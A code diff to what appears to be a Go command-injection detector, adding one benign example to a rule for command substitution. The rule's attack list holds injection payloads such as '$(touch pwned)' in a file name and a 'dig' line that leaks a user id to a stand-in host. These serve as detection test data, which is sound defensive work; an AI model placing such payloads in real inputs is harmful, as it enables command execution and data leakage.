@@ -258,7 +258,7 @@ var ruleInventory = []RuleInfo{
 	{ID: "cmdi.substitution", Category: CmdI, Confidence: High,
 		Description: "Command substitution $(...) or `...` with a command.",
 		Attacks:     []string{"$(touch pwned)", "`touch pwned`", "report-$(touch pwned).pdf", "%x(id)", "qx{uname -a}", "$(printf %s i d)", ";dig +short `id -u`.x.example", "a`b` ;`touch pwned`"},
-		Benign: []string{"install it in $(top_srcdir)/include", "Run `touch file.txt` to create it", "Writes `value` to `buf` at the specified `offset` as little-endian.", "$(document).ready(init)", "50%x(2)", "The `whoami` command prints your user", "The answer is `yes`; obviously",
+		Benign: []string{"install it in $(top_srcdir)/include", "copy it to $(datadir) and $(docdir)", "Run `touch file.txt` to create it", "Writes `value` to `buf` at the specified `offset` as little-endian.", "$(document).ready(init)", "50%x(2)", "The `whoami` command prints your user", "The answer is `yes`; obviously",
 			"The affected functions are:\n\n- `at`\n- `now`\n\nOthers are safe", "To see your user name, just type `id`.", "In later versions, `time` will check it",
 			"To reproduce it, run these steps:\n\n```sh\ncd /srv/app && ls -la | grep log\n```\n\nThe error appears.",
 			"`whoami` prints the current user"}},
